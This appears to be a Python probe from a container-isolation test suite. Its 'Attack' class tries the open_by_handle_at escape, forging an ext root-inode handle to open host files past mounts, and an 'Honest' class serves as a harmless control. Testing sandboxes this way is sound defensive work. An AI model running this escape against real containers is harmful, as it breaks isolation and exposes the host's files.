"""Goal: open a file outside by its inode number, past every folder and mount.

open_by_handle_at knows no paths; containers have been left this way.
"""

import ctypes
import os

from kit import Chance, attempt, facts, syscall

WITHOUT_ISOLATION = "a file of the host by its handle"
ROOT = True


class Attack(Chance):
    def __init__(self):
        handle = (ctypes.c_uint32 * 34)(128)
        mount = ctypes.c_int()
        with attempt("open by handle"):
            root = os.open("/", os.O_RDONLY)
            try:
                syscall("name_to_handle_at", -100, facts.labels.encode(), handle, ctypes.byref(mount), 0)
            except OSError:
                handle[0], handle[1], handle[2] = 8, 1, 2  # the root folder of an ext file system
            os.close(syscall("open_by_handle_at", root, handle, 0))


class Honest(Chance):
    """Opens a file of its own by a descriptor of its folder."""

    def __init__(self):
        folder = os.open(".", os.O_RDONLY)
        os.close(os.open("kit.py", os.O_RDONLY, dir_fd=folder))
